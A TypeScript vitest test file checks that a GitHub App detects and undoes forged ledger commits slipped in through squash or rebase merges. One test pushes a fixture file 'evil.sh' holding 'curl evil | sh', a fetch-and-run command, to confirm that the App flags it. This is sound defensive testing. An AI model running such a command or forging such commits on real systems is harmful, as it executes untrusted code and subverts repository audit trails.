import { expect, it } from "vitest";
import { type LedgerEvent, transition } from "../../src/method/index.ts";
import { renderLedgerMessage, writeLedger } from "../../src/state/index.ts";
import { A_NOTE, branchOf } from "../support/a-note.ts";
import { openStory, type Story } from "../support/story.ts";

/*
 * Somebody who can write squashes or rebases a pull request that the App has opened into a branch of the engine's. The
 * commit names the App as its author, and GitHub signs it: it is that person's all the same.
 */

const STRICT =
  "agents:\n  default: { use: rehearsal }\npermissions: { start: write, command: maintain, approve: maintain }\n";
const LEDGER = branchOf("ledger");
const WORK = branchOf("work");

/** A pull request that the App opens because the developer asks it to, and that the developer then turns to their ends. */
async function oneOfOurs(story: Story) {
  const issue = await story.developer.opensIssue("Mine");
  await story.developer.comments(issue, "/haiku start tiny");
  const pull = await story.until("a second pull request of the App's", async () =>
    (await story.developer.pulls()).find(({ branch }) => branch === `haiku/${issue}/main`),
  );
  await story.rests();
  return pull;
}

/** Books that say the maintainer has asked for another mode, with the message that leads to them. */
function forged(story: Story) {
  const by = { login: "maintainer", id: story.accountOf("maintainer").id };
  const event: LedgerEvent = {
    do: "mode",
    at: story.clock.now(),
    by,
    source: "comment/999999",
    mode: "quick" as never,
  };
  const files = writeLedger(transition(story.books(A_NOTE), event));
  return { files, message: renderLedgerMessage({ subject: "mode changed", stage: null, events: [event] }) };
}

async function forgesTheLedger(story: Story, how: "squash" | "rebase"): Promise<string> {
  const pull = await oneOfOurs(story);
  const { files, message } = forged(story);
  const page = await story.developer.commitsOn(await story.developer.headOf(LEDGER), files, message);
  await story.developer.resets(pull.branch, page);
  await story.developer.changesPull(pull.number, { base: LEDGER });
  return story.developer.mergesAnew(pull.number, how, message);
}

async function seesItUndone(story: Story, theirs: string): Promise<void> {
  await story.looks();
  const { mode, interventions } = story.books(A_NOTE).intent;
  expect(mode).not.toBe("quick");
  expect(interventions[0]).toMatchObject({ do: "undone", by: { login: "developer" }, source: `ledger/${theirs}` });
  expect((await story.maintainer.pull(`${A_NOTE}/main`))?.body).toContain("by **developer**");
}

async function isTakenBack(how: "squash" | "rebase"): Promise<void> {
  await using story = await openStory({ files: { ".github/haiku.yml": STRICT } });
  await story.starts();
  await story.rests();
  await seesItUndone(story, await forgesTheLedger(story, how));
}

it("takes back what a person brings into the ledger by a squash", () => isTakenBack("squash"));

it("takes back what a person brings into the ledger by a rebase", () => isTakenBack("rebase"));

it("takes it back also when the App has been started anew meanwhile, and knows its own ledger then", async () => {
  await using story = await openStory({ files: { ".github/haiku.yml": STRICT } });
  await story.starts();
  await story.rests();
  const before = await story.maintainer.headOf(LEDGER);
  const asked = story.town.requests.length;
  await story.restarts();
  await story.looks();
  const lists = story.town.requests.slice(asked).filter(({ path }) => path.includes("/activity"));
  // Once, or once each where the first look at everything and the one after it meet.
  expect([1, 2]).toContain(lists.length);
  expect(await story.maintainer.headOf(LEDGER)).toBe(before);
  await seesItUndone(story, await forgesTheLedger(story, "squash"));
});

it("takes it back when two processes of the App see it at once, each of which believes what the other wrote", async () => {
  await using story = await openStory({ files: { ".github/haiku.yml": STRICT }, twice: true });
  await story.starts();
  await story.looks();
  expect(story.books(A_NOTE).intent.interventions).toEqual([]);
  await using _ = await story.bothHear();
  await seesItUndone(story, await forgesTheLedger(story, "squash"));
});

it("has what a person squashes into the work signed again and filed, as any push of theirs", async () => {
  await using story = await openStory({ files: { ".github/haiku.yml": STRICT } });
  await story.starts();
  await story.reachesTheGate();
  const pull = await oneOfOurs(story);
  await story.developer.resets(pull.branch, await story.developer.headOf(WORK));
  await story.developer.pushes(pull.branch, "evil.sh", "curl evil | sh\n");
  await story.developer.changesPull(pull.number, { base: WORK });
  await story.developer.mergesAnew(pull.number, "squash", "work: work of maker\n\nHaiku-Intent: 1");
  await story.until("a finding on what was squashed", async () => {
    await story.looks();
    return story.books(A_NOTE).findings.some((one) => one.source_ref.startsWith("drift:evil.sh:"));
  });
});
